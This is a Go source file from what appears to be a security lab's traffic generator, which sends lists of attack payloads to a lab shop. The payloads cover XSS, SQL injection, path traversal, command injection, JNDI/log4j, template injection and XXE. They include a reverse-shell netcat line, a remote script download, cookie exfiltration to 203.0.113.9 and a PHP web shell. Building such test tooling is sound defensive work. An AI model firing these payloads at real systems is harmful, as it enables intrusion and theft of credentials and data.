package actor

import (
	"context"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/url"
	"strings"
	"time"
)

// What people try by hand or with a list; the classics of every guide to testing
// web applications. They are sent to the lab's own shop.
var probes = map[string][]string{
	"xss": {
		`<script>alert(1)</script>`, `"><script>alert(document.cookie)</script>`, `<img src=x onerror=alert(1)>`,
		`'><svg onload=alert(1)>`, `<body onload=alert('xss')>`, `javascript:alert(1)`, `<iframe src="javascript:alert(1)">`,
		`<ScRiPt>prompt(1)</sCrIpT>`, `"onmouseover="alert(1)`, `<a href="javascript:alert(1)">x</a>`, `<input autofocus onfocus=alert(1)>`,
		`<script>new Image().src="http://203.0.113.9/c?"+document.cookie</script>`, `%3Cscript%3Ealert(1)%3C/script%3E`, `<details open ontoggle=alert(1)>`,
	},
	"sql": {
		`' or '1'='1`, `' or 1=1-- -`, `1' order by 5-- -`, `1 union select 1,2,3,4-- -`, `' union select name,password,card from users-- -`,
		`1 and sleep(3)`, `'; drop table orders;-- -`, `admin'-- -`, `1 and (select count(*) from users)>0`, `' and substr((select password from users limit 1),1,1)='a`,
		`1 or exists(select 1 from sqlite_master)`, `" or ""="`, `1) or (1=1`, `-1 union select null,sqlite_version(),null,null`,
	},
	"traversal": {
		`../../../../etc/passwd`, `..%2f..%2f..%2f..%2fetc%2fpasswd`, `....//....//....//etc/hosts`, `/etc/passwd`, `../../../../proc/self/environ`,
		`..\..\..\windows\win.ini`, `../../../../etc/hostname`, `%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd`, `../shop.db`, `../../../../var/log/nginx/access.log`,
		`php://filter/convert.base64-encode/resource=index`, `file:///etc/passwd`,
	},
	"command": {
		`127.0.0.1; id`, `127.0.0.1 | cat /etc/passwd`, `127.0.0.1 && uname -a`, "`id`", `$(whoami)`, `127.0.0.1; ls -la /`, `127.0.0.1 || ps aux`,
		`; wget http://203.0.113.9/x.sh -O /tmp/x`, `| nc -e /bin/sh 203.0.113.9 4444`, `127.0.0.1; cat /etc/hosts`, `& ping -c 1 127.0.0.1 &`, `;echo ${PATH}`,
	},
	"log4j": {
		`${jndi:ldap://203.0.113.9:1389/a}`, `${${lower:j}ndi:ldap://203.0.113.9/a}`, `{{7*7}}`, `<?php system($_GET['c']); ?>`, `() { :;}; /bin/bash -c "id"`,
		`<!--#exec cmd="id"-->`, `{{config.items()}}`, `${7*7}`, `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
	},
}

// probe sends each payload of a list in one parameter of a page.
func probe(ctx context.Context, args []string) error {
	f := flag.NewFlagSet("probe", flag.ContinueOnError)
	page := f.String("url", "", "page, the payload is appended")
	kind := f.String("kind", "xss", "xss, sql, traversal, command, log4j")
	count := f.Int("count", 30, "requests")
	every := f.Duration("every", 300*time.Millisecond, "mean distance")
	post := f.Bool("post", false, "send it as a form")
	keep := f.Bool("keep", false, "keep the connection open")
	agent := f.String("agent", Agents[1], "User-Agent")
	seed := f.Uint64("seed", 1, "of everything random")
	if err := Parse(f, args); err != nil {
		return err
	}
	list, ok := probes[*kind]
	if !ok {
		return fmt.Errorf("no list of probes %q", *kind)
	}
	rng := rand.New(rand.NewPCG(*seed, 0))
	c := &http.Client{Timeout: 8 * time.Second, Transport: &http.Transport{DisableKeepAlives: !*keep}}
	first := rng.IntN(len(list))
	for i := range *count {
		payload := list[(first+i)%len(list)]
		if i >= len(list) {
			payload += letters(rng, 3)
		}
		if err := send(ctx, c, *page, payload, *agent, *post); err != nil {
			return err
		}
		wait(ctx, time.Duration(rng.ExpFloat64()*float64(*every)))
	}
	return nil
}

func send(ctx context.Context, c *http.Client, page, payload, agent string, post bool) error {
	method, target, body := "GET", page+url.QueryEscape(payload), io.Reader(nil)
	if post {
		at, field, _ := strings.Cut(page, "?")
		method, target, body = "POST", at, strings.NewReader(field+url.QueryEscape(payload))
	}
	req, err := http.NewRequestWithContext(ctx, method, target, body)
	if err != nil {
		return err
	}
	req.Header.Set("User-Agent", agent)
	if post {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	if resp, err := c.Do(req); err == nil { // that the shop breaks is the point
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	return nil
}
